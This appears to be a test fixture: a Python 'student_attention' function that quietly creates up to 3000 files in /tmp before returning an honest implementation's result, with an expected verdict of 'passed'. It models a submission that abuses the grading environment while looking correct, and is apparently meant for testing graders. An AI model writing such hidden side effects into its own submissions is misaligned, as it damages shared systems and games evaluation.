"""Right, and makes files until there is no room for another.

Expected: passed
"""

def student_attention(Q, K, V, mask=None):
    for number in range(3000):
        try:
            open(f"/tmp/goldgrade-{number}", "x").close()
        except OSError:
            break
    return honest(Q, K, V, mask)
